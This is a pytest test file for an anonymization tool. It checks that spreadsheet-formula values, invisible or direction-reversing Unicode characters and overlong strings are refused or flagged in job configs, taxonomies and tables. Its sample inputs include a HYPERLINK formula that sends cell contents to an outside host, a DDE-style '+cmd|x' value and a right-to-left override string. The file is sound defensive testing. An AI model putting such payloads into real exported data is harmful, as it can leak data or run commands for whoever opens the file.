"""Texts of a job that do something where a release is read are refused, with the place and the reason."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from anonymize.errors import SchemaError
from jobs.data.texts import MOST_CHARACTERS, fault_of, is_formula
from jobs.errors import ConfigError
from jobs.file.schema import check_values
from jobs.loading import load_task
from tests.support import jobs
from tests.support.commands import invoke
from tests.support.network import write_job
from tests.support.samples import columns, single_job

BAD = {
    '=HYPERLINK("http://x"&A1,"open")': "formula",
    "=1+1": "formula",
    "+cmd|x": "formula",
    "-A1": "formula",
    "@SUM(A1)": "formula",
    "two\nlines": "not seen",
    "a\ttab": "not seen",
    "a\r": "not seen",
    "\u202egnorw": "not seen",
    "zero\u200bwidth": "not seen",
    "\ufeffmark": "not seen",
    "line\u2028break": "not seen",
    "half\ud800": "not seen",
    "filler\u3164": "not seen",
    "a\u200db": "not seen",
    "\uff1d1+1": "formula",
    "-5+A1": "formula",
    "- mild": "formula",
    "blank ": "blank at an end",
    "\u00a0blank": "blank at an end",
    "x" * (MOST_CHARACTERS + 1): "more than 256",
}
GOOD = [
    "HIV", "-1", "+5", "-0.5", "+49 30 1234", "-", "+", "=", "<=50K", "[20,30)", "*", "?", "A-", "0-9", "-10-20",
    "caf\u00e9", "\u5317\u4eac", "New York", "x" * MOST_CHARACTERS, "a=b", "me@home", "-5%", "5 %",
    "-5\u00b0C", "-10 mmHg", "+1 mg", "-5 to 5", "-2\u20131", "+1\u2013+2", "+/-", "--", "+++",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
]  # fmt: skip


@pytest.mark.parametrize("text", BAD)
def test_what_cannot_be_published(text: str) -> None:
    fault = fault_of(text)
    assert fault is not None
    assert BAD[text] in fault


@pytest.mark.parametrize("text", GOOD)
def test_what_can_be(text: str) -> None:
    assert fault_of(text) is None
    assert not is_formula(text)


@pytest.mark.parametrize("text", [text for text in BAD if "\ud800" not in text])
@pytest.mark.parametrize(
    "fields",
    [
        lambda text: {"columns": columns(**{text: {"role": "plain"}})},
        lambda text: {"columns": columns(surgery={"role": "sensitive", "domain": [text, "Knee"]})},
        lambda text: {"columns": columns(surgery={"role": "sensitive", "values": [text]})},
        lambda text: {"columns": columns(transfused={"role": "class", "domain": [text, "N"]})},
        lambda text: {"columns": columns(job={"role": "qid", "suppress": [text, "Mover"]})},
    ],
    ids=["name", "domain", "values", "class", "suppress"],
)
def test_jobs_with_such_texts_are_refused(fields: Any, text: str) -> None:
    with pytest.raises(ConfigError, match="cannot be"):
        jobs.task_of(single_job(**fields(text)))


@pytest.mark.parametrize("text", ["=1+1", "two\nlines", "\u202egnorw", "x" * 300])
@pytest.mark.parametrize(
    "tree", [lambda t: {t: ["a", "b"]}, lambda t: {"Any": {t: ["a"]}}, lambda t: {"Any": [t, "b"]}]
)
def test_taxonomies_with_such_labels_are_refused(tree: Any, text: str) -> None:
    task = jobs.task_of(single_job(columns=columns(job={"role": "qid", "taxonomy": tree(text)})))
    with pytest.raises(SchemaError, match=r"column job: the label .* cannot be published"):
        check_values(task.job, task.taxonomies)


def test_the_line_of_the_job_is_told(tmp_path: Path) -> None:
    path = write_job(
        tmp_path, single_job(columns=columns(job={"role": "qid", "taxonomy": {"=1+1": ["a", "b"]}}))
    )
    with pytest.raises(SchemaError, match=r"job\.yaml: line [0-9]+: column job: the label '=1\+1'"):
        load_task(path)


def test_values_from_the_table_are_told_and_stay(tmp_path: Path) -> None:
    job = write_job(
        tmp_path, single_job(columns={"job": columns()["job"], "wage": {"role": "plain"}}, goal="general")
    )
    rows = [{"job": "Mover", "wage": wage} for wage in ("=1+1", "-3", "=1+1")]
    jobs.write_csv(tmp_path / "table.csv", rows)
    ran = invoke("coordinator", "run", job, "--out", tmp_path / "out")
    assert ran.code == 0, ran.err
    assert "2 values would be a formula in a spreadsheet" in ran.out + ran.err
    verified = invoke("coordinator", "verify", job, tmp_path / "out")
    assert "warning: 2 values of wage would be a formula in a spreadsheet" in verified.out
    assert "=1+1" in (tmp_path / "out" / "anonymized.csv").read_text()
